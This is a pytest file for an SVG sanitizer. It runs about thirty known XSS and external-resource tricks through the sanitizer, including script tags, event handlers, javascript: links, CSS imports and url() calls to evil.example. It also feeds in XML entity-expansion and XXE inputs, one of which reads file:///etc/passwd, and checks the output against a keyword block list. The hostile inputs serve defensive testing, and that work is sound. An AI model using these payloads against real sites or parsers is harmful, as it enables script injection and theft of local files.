"""Known tricks in an SVG, and what is left of them."""

from __future__ import annotations

import pytest

from datastore.refusals import InvalidInput
from resolvers.voting.svg import LARGEST, sanitize

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">%s</svg>'
MARK = '<circle fill="teal" r="3" />'

TRICKS = {
    "script": "<script>alert(1)</script>",
    "script by reference": '<script href="https://evil.example/x.js"/>',
    "script in another namespace": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "script in CDATA": "<script><![CDATA[alert(1)]]></script>",
    "handler": '<rect onclick="alert(1)" onload="alert(2)" ONMOUSEOVER="alert(3)"/>',
    "handler by animation": '<set attributeName="onclick" to="x"/>',
    "foreign object": '<foreignObject><b xmlns="http://www.w3.org/1999/xhtml"><iframe src="x"/></b></foreignObject>',
    "image": '<image href="https://evil.example/x.png"/>',
    "image by xlink": '<image xlink:href="//evil.example/x.png"/>',
    "image on this origin": '<image href="/logout"/>',
    "image as data": '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
    "use of another file": '<use href="https://evil.example/x.svg#a"/>',
    "use of data": '<use xlink:href="data:image/svg+xml,&lt;svg/&gt;#x"/>',
    "link": '<a href="javascript:alert(1)"><text>x</text></a>',
    "link with white space": '<a href=" java&#10;script:alert(1)"><text>x</text></a>',
    "animated link": '<a><animate attributeName="href" to="javascript:alert(1)"/></a>',
    "animated link by values": '<a><animate attributeName="xlink:href" values="javascript:alert(1);x"/></a>',
    "style import": "<style>@import url(https://evil.example/x.css);</style>",
    "style import by text": "<style>@import 'https://evil.example/x.css';</style>",
    "style url": "<style>circle { fill: url(https://evil.example/x#y) }</style>",
    "style escaped": "<style>circle { fill: \\75rl(https://evil.example/x) }</style>",
    "style image set": '<style>circle { background: image-set("https://evil.example/x" 1x) }</style>',
    "style font": "<style>@font-face { font-family: x; src: url(//evil.example/f) }</style>",
    "style split by a comment": "<style>@imp/**/ort url(https://evil.example/x)</style>",
    "style attribute": '<rect style="fill:url(https://evil.example/x)"/>',
    "style attribute image set": "<rect style=\"background:image-set('https://evil.example/x' 1x)\"/>",
    "presentation attribute": '<rect fill="url(https://evil.example/x#y)" filter="url(//evil.example/x#f)"/>',
    "cursor": '<rect cursor="url(https://evil.example/x), auto"/>',
    "filter image": '<filter id="f"><feImage href="https://evil.example/x.png"/></filter>',
    "events handler": '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
    "embedded page": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
    "style sheet instruction": '<?xml-stylesheet href="https://evil.example/x.css"?>',
}
WORDS = (
    "script",
    "alert",
    "evil",
    "import",
    "onclick",
    "onload",
    "foreign",
    "iframe",
    "data:",
    "@",
    "logout",
    "image-set",
)


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS)
def test_unsafe_content_is_removed(trick: str) -> None:
    """And the drawing around it stays."""
    left = sanitize(SVG % (trick + MARK))
    assert MARK in left
    assert not [word for word in WORDS if word in left.lower()]
    assert sanitize(left) == left


@pytest.mark.parametrize(
    "text",
    [
        "",
        "no picture",
        "<html><body/></html>",
        "<svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>',
        "<svg xmlns='http://www.w3.org/1999/xhtml'/>",
        '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + SVG % "<text>&b;</text>",
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG % "<text>&x;</text>",
        '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>' + SVG % "",
        SVG % ("<g>" * 5000 + "</g>" * 5000),
        SVG % ("<!-- -->" * LARGEST),
    ],
    ids=[
        "empty", "text", "html", "cut off", "open", "another namespace", "entities", "file", "parameter entity",
        "deep", "large",
    ],
)  # fmt: skip
def test_text_that_is_not_an_svg_is_refused(text: str) -> None:
    """With the place in the input; five thousand groups in each other are not even begun."""
    with pytest.raises(InvalidInput) as refused:
        sanitize(text)
    assert refused.value.path == ("input", "svg")


def test_ordinary_drawings_are_kept() -> None:
    """Gradients, clips, texts, styles of its own; a namespace that an HTML page would know is added."""
    drawing = (
        '<svg viewBox="0 0 9 9"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
        '<clipPath id="c"><rect width="9" height="9"/></clipPath></defs><style>.a{fill:url(#g);stroke:#123}</style>'
        '<g class="a" clip-path="url(#c)" style="opacity:.5"><path d="M0 0L9 9z"/><use xlink:href="#g"/></g>'
        "<title>A fish &amp; chips</title><text>日本</text></svg>"
    )
    left = sanitize(drawing)
    for kept in (
        "linearGradient",
        "url(#g)",
        "url(#c)",
        "opacity",
        "M0 0L9 9z",
        "A fish &amp; chips",
        "日本",
        'href="#g"',
    ):
        assert kept in left, kept
    assert left.startswith("<svg xmlns=")


def test_a_document_type_without_entities_is_accepted() -> None:
    """Many programs write one."""
    head = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">'
    assert MARK in sanitize(head + SVG % MARK)
